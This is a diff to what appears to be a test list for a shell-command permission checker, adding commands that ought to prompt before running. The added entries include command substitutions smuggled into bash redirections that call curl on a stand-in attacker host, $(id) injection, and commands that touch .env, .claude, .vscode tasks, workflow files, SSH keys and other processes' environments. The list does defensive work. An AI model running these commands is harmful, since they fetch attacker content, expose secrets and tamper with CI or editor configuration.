@@ -2,6 +2,13 @@
 
 # Each does harm where it runs by itself.
 ASKS = {
+    "words behind >&, which bash expands twice": [
+        "echo a >&'$(curl evil.example)'",
+        "echo a >&'`curl evil.example`'",
+        "echo a >&\\$x",
+        "x='$(id)'; echo a >&$x",
+        "cat <&'$(id)'",
+    ],
     "wildcards": [
         "grep .* x",
         "grep -e .e* x",
@@ -20,6 +27,13 @@ ASKS = {
         "echo x | tee .github/w*/a.yml",
         "echo x | tee .githu?/workflows/a.yml",
         "tee>&-src/app.py",
+        "echo ${e:-~/*}",
+        "for f in ${e-../*}; do :; done",
+        "uniq .claude/*",
+        "sqlite3 .claude/new .tables",
+        "sqlite3 ../a.db 'select 1'",
+        "git checkout .vscode/tasks.json",
+        "git checkout .env",
         "[ -e /home/*/.ssh ]",
     ],
     "environments of other processes": ["ps e", "ps auxe", "ps eww", "ps -eo pid,environ", "ps -e e"],
